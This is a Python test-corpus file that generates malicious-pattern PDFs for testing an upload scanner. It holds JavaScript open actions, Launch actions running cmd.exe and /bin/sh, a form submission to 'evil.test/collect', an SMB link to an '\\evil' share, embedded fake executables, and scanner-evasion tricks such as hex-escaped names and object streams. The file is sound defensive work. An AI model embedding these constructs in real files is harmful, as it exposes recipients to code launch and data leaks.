"""PDFs that run code, carry files or hide behind encryption."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from desk.lib.upload_corpus.make import (
    PdfBuild,
    Sample,
    annotate,
    first_page,
    js,
    link,
    pdf,
    set_open_action,
    text_field,
)


def _js_names(document: pikepdf.Pdf) -> None:
    tree = Array([String("init"), document.make_indirect(js(document))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=tree))


def _js_stream(document: pikepdf.Pdf) -> None:
    code = document.make_stream(b"this.exportDataObject({cName:'x', nLaunch:2});")
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)


def _aa_catalog(document: pikepdf.Pdf) -> None:
    document.Root.AA = Dictionary(WC=js(document))


def _aa_page(document: pikepdf.Pdf) -> None:
    first_page(document).AA = Dictionary(O=js(document))


def _aa_page_uri(document: pikepdf.Pdf) -> None:
    first_page(document).AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://x.test/")))


def _launch(target: str) -> Dictionary:
    return Dictionary(
        S=Name.Launch,
        F=String(target),
        Win=Dictionary(F=String(target), P=String("/c calc.exe")),
    )


def _widget_js(document: pikepdf.Pdf) -> None:
    keystroke = js(document, "event.rc = true; app.launchURL('http://x')")
    text_field(document, AA=Dictionary(K=keystroke))


def _embedded(name: str, content: bytes) -> PdfBuild:
    def build(document: pikepdf.Pdf) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return build


def _file_attachment_annotation(document: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00 payload", filename="readme.exe")
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([72, 700, 90, 718]),
        FS=spec.obj,
    )
    annotate(document, annotation)


def _xfa_stream(document: pikepdf.Pdf) -> None:
    xfa = document.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    )
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


def _xfa_array(document: pikepdf.Pdf) -> None:
    part = document.make_stream(b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/>')
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("template"), part]))


def _rich_media(document: pikepdf.Pdf) -> None:
    annotate(
        document,
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 500, 300, 700])),
    )


def _pdf_traps() -> dict[str, tuple[str, PdfBuild]]:
    """name → (family, build)."""
    return {
        "js-open-action": ("pdf-active", lambda d: set_open_action(d, js(d))),
        "js-name-tree": ("pdf-active", _js_names),
        "js-stream": ("pdf-active", _js_stream),
        "aa-catalog": ("pdf-active", _aa_catalog),
        "aa-page": ("pdf-active", _aa_page),
        "aa-page-uri": ("pdf-active", _aa_page_uri),
        "launch-open-action": ("pdf-active", lambda d: set_open_action(d, _launch("cmd.exe"))),
        "launch-link": ("pdf-active", lambda d: annotate(d, link(_launch("/bin/sh")))),
        "gotor-smb": (
            "pdf-active",
            lambda d: annotate(
                d,
                link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0]))),
            ),
        ),
        "submit-form": (
            "pdf-active",
            lambda d: annotate(
                d, link(Dictionary(S=Name.SubmitForm, F=String("http://evil.test/collect")))
            ),
        ),
        "import-data": (
            "pdf-active",
            lambda d: set_open_action(d, Dictionary(S=Name.ImportData, F=String("x.fdf"))),
        ),
        "js-link": ("pdf-active", lambda d: annotate(d, link(js(d)))),
        "widget-keystroke-js": ("pdf-active", _widget_js),
        "rendition-js": (
            "pdf-active",
            lambda d: annotate(d, link(Dictionary(S=Name.Rendition, OP=0, JS=String("1")))),
        ),
        "open-action-uri": (
            "pdf-active",
            lambda d: set_open_action(d, Dictionary(S=Name.URI, URI=String("http://evil.test/"))),
        ),
        "rich-media": ("pdf-active", _rich_media),
        "embedded-exe": ("pdf-embedded", _embedded("invoice.exe", b"MZ\x90\x00 not really")),
        "embedded-html": ("pdf-embedded", _embedded("page.html", b"<p>hello</p>")),
        "embedded-pdf": ("pdf-embedded", _embedded("inner.pdf", b"not a pdf at all")),
        "file-attachment-annot": ("pdf-embedded", _file_attachment_annotation),
        "xfa-stream": ("pdf-xfa", _xfa_stream),
        "xfa-array": ("pdf-xfa", _xfa_array),
    }


def pdf_trap_samples() -> Iterator[Sample]:
    for name, (family, build) in _pdf_traps().items():
        yield Sample(f"{name}.pdf", pdf(build=build), family, safe=False)
        # The same trap in compressed object streams: invisible to a byte search.
        yield Sample(f"{name}-objstm.pdf", pdf(build=build, object_streams=True), family, False)
    hidden = pdf(build=lambda d: set_open_action(d, js(d)), compress=False)
    yield Sample(
        "hex-escaped-names.pdf",
        hidden.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 "),
        "pdf-active",
        False,
    )
    yield Sample(
        "js-unreferenced-object.pdf",
        pdf().replace(
            b"%%EOF", b"%%EOF\n99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
        )
        + b"%%EOF\n",
        "pdf-active",
        False,
    )


def encrypted_samples() -> Iterator[Sample]:
    plain = pikepdf.open(io.BytesIO(pdf()))
    variants = {
        "user-password-aes256": pikepdf.Encryption(owner="o", user="secret", R=6),
        "user-password-aes128": pikepdf.Encryption(owner="o", user="secret", R=4, aes=True),
        "owner-only-aes256": pikepdf.Encryption(owner="owner", user="", R=6),
        "owner-only-rc4": pikepdf.Encryption(
            owner="owner", user="", R=3, aes=False, metadata=False
        ),
    }
    for name, encryption in variants.items():
        out = io.BytesIO()
        plain.save(out, encryption=encryption)
        yield Sample(f"{name}.pdf", out.getvalue(), "pdf-encrypted", False)
